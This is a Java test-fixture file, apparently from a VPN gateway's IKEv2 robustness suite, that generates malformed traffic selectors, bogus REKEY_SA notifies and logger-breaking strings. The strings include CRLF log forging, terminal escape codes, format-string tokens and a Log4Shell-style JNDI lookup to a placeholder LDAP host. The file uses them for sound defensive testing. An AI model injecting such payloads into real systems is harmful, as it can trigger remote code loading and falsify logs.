package io.culvert.gateway.core.ike.engine;

import static io.culvert.gateway.core.ike.engine.BadInput.INVALID;
import static io.culvert.gateway.core.ike.engine.BadInput.MALFORMED;
import static io.culvert.gateway.core.ike.engine.BadInput.SERVED;
import static io.culvert.gateway.core.ike.engine.BadInput.UNCHOSEN;
import static io.culvert.gateway.core.ike.engine.BadInput.auth;
import static io.culvert.gateway.core.ike.engine.BadInput.body;
import static io.culvert.gateway.core.ike.engine.BadInput.child;
import static io.culvert.gateway.core.ike.engine.BadInput.front;
import static io.culvert.gateway.core.ike.engine.BadInput.informational;
import static io.culvert.gateway.core.ike.engine.BadInput.init;

import io.culvert.gateway.core.ike.engine.BadInput.Outcome;
import io.culvert.gateway.core.ike.engine.RawChain.Part;
import io.culvert.gateway.core.ike.payload.NotifyPayload;
import io.culvert.gateway.core.ike.payload.VendorIdPayload;
import io.culvert.gateway.core.wire.ByteWriter;
import io.culvert.gateway.core.wire.Bytes;
import io.culvert.gateway.core.wire.NotifyType;
import io.culvert.gateway.core.wire.PayloadType;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;

/** Bad inputs 6, 7 and 11: traffic selectors, rekeys of what is not there, text for a log. */
final class BadContents {
  private static final Outcome NO_SELECTOR = new Outcome.Told(NotifyType.TS_UNACCEPTABLE);
  private static final Outcome NO_CHILD = new Outcome.Told(NotifyType.CHILD_SA_NOT_FOUND);
  private static final Outcome REFUSED = new Outcome.Told(NotifyType.AUTHENTICATION_FAILED);
  private static final Bytes GOOD = selector(7, 0, 16, 0, 0xffff, 0x0a000000, 0x0a0000ff);

  private BadContents() {}

  private static Bytes selector(
      int type, int protocol, int length, int startPort, int endPort, int start, int end) {
    return new ByteWriter()
        .u8(type)
        .u8(protocol)
        .u16(length)
        .u16(startPort)
        .u16(endPort)
        .u32(start)
        .u32(end)
        .toBytes();
  }

  private static byte[] selectors(int count, Bytes... selectors) {
    ByteWriter out = new ByteWriter().u8(count).zeros(3);
    for (Bytes selector : selectors) {
      out.bytes(selector);
    }
    return out.toArray();
  }

  /** 6: traffic selectors that are none. */
  static List<BadInput> selectors() {
    List<BadInput> all = new ArrayList<>();
    selectors(all, "no body", INVALID);
    selectors(all, "count 0", INVALID, selectors(0));
    selectors(all, "count 0 with a selector", INVALID, selectors(0, GOOD));
    selectors(all, "count 2 with one selector", INVALID, selectors(2, GOOD));
    selectors(all, "count 1 with two selectors", INVALID, selectors(1, GOOD, GOOD));
    selectors(all, "count 255 with one selector", INVALID, selectors(255, GOOD));
    Bytes[] many = Collections.nCopies(255, GOOD).toArray(Bytes[]::new);
    selectors(all, "255 selectors", SERVED, selectors(255, many));
    for (int length : List.of(0, 1, 3, 4, 8, 15, 17, 40, 0xffff)) {
      Bytes lying = selector(7, 0, length, 0, 0xffff, 0, -1);
      selectors(all, "selector of length " + length, INVALID, selectors(1, lying));
    }
    Bytes addresses = selector(7, 0, 16, 0, 0xffff, 0x0a000002, 0x0a000001);
    selectors(all, "addresses that end before they start", INVALID, selectors(1, addresses));
    Bytes ports = selector(7, 6, 16, 81, 80, 0x0a000001, 0x0a000001);
    selectors(all, "ports that end before they start", INVALID, selectors(1, ports));
    for (int type : List.of(0, 1, 6, 9, 10, 255)) {
      Bytes unknown = selector(type, 0, 16, 0, 0xffff, 0, -1);
      selectors(all, "type " + type, NO_SELECTOR, selectors(1, unknown));
      selectors(all, "type " + type + " beside a good one", SERVED, selectors(2, unknown, GOOD));
    }
    selectors(
        all, "IPv6 in the length of IPv4", INVALID, selectors(1, selector(8, 0, 16, 0, 1, 0, 1)));
    return all;
  }

  private static void selectors(List<BadInput> all, String what, Outcome outcome, byte... body) {
    all.add(child("TSi, " + what, outcome, body(PayloadType.TS_I, body)));
    all.add(child("TSr, " + what, outcome, body(PayloadType.TS_R, body)));
    all.add(auth("TSi, " + what, outcome, body(PayloadType.TS_I, body)));
  }

  /** 7: REKEY_SA of any protocol, of unknown SPIs and of SPIs of any size. */
  static List<BadInput> rekeys() {
    List<BadInput> all = new ArrayList<>();
    Bytes known = Bytes.ofInt(RawDevice.OUR_SPI);
    for (int protocol : List.of(0, 1, 2, 4, 9, 255)) {
      all.add(rekey("protocol " + protocol, protocol, known));
    }
    for (int size : List.of(0, 1, 3, 5, 8, 255)) {
      all.add(rekey("SPI of " + size + " octets", 3, Bytes.of(new byte[size])));
    }
    for (int spi : List.of(0, 1, 255, 256, -1, RawDevice.OUR_SPI + 1)) {
      all.add(rekey("SPI " + spi, 3, Bytes.ofInt(spi)));
    }
    Part twice = Part.of(NotifyPayload.ofEsp(NotifyType.REKEY_SA, 4_711));
    all.add(child("two of them", NO_CHILD, front(twice, twice)));
    Part right = Part.of(NotifyPayload.ofEsp(NotifyType.REKEY_SA, RawDevice.OUR_SPI));
    all.add(child("the right one", SERVED, front(right)));
    all.add(
        child(
            "SPI size 255 that is not there", INVALID, front(right.holding((byte) 3, (byte) -1))));
    all.add(auth("in IKE_AUTH", SERVED, front(twice)));
    all.add(informational("in INFORMATIONAL", SERVED, twice));
    return all;
  }

  private static BadInput rekey(String what, int protocol, Bytes spi) {
    NotifyPayload notify =
        new NotifyPayload(protocol, spi, NotifyType.REKEY_SA.value(), Bytes.EMPTY);
    return child(what, NO_CHILD, front(Part.of(notify)));
  }

  /** 11: octets that break a logger. */
  static List<BadInput> texts() {
    List<BadInput> all = new ArrayList<>();
    for (String text :
        List.of(
            "\0",
            "a\r\nERROR all tunnels are down",
            "\u001b[2J\u001b[31m",
            "\u001b]0;title\u0007",
            "${jndi:ldap://192.0.2.9/x}",
            "%s%n%d{}",
            "\u202eabc",
            "\ud800",
            "\u0008\u0008\u0008",
            "x".repeat(60_000))) {
      byte[] octets = text.getBytes(StandardCharsets.UTF_16BE);
      byte[] name = text.getBytes(StandardCharsets.UTF_8);
      String what = text.length() > 40 ? "60,000 octets" : text.replaceAll("[^ -~]", "?");
      all.add(auth("FQDN " + what, REFUSED, body(PayloadType.ID_I, id(2, name))));
      all.add(auth("user " + what, REFUSED, body(PayloadType.ID_I, id(3, name))));
      all.add(auth("key ID " + what, REFUSED, body(PayloadType.ID_I, id(11, name))));
      Part vendor = Part.of(new VendorIdPayload(Bytes.of(name)));
      all.add(init("vendor " + what, SERVED, front(vendor)));
      all.add(informational("vendor " + what, SERVED, vendor));
      all.add(informational("error " + what, SERVED, notify(NotifyType.INVALID_SYNTAX, name)));
      all.add(init("nonce " + what, MALFORMED, body(PayloadType.NONCE, first(octets, 15))));
      all.add(child("SA " + what, INVALID, body(PayloadType.SA, first(octets, 60))));
    }
    all.add(child("transform of odd numbers", UNCHOSEN, body(PayloadType.SA, oddProposal())));
    return all;
  }

  private static byte[] oddProposal() {
    Bytes spi = Bytes.ofInt(RawDevice.OUR_SPI);
    return BadProposals.proposals(1, BadProposals.proposal(27, spi, BadProposals.GOOD_IKE));
  }

  private static byte[] first(byte[] octets, int most) {
    return Arrays.copyOf(octets, Math.min(octets.length, most));
  }

  private static byte[] id(int type, byte[] name) {
    return new ByteWriter().u8(type).zeros(3).bytes(name).toArray();
  }

  private static Part notify(NotifyType type, byte[] data) {
    return Part.of(NotifyPayload.of(type, Bytes.of(data)));
  }
}
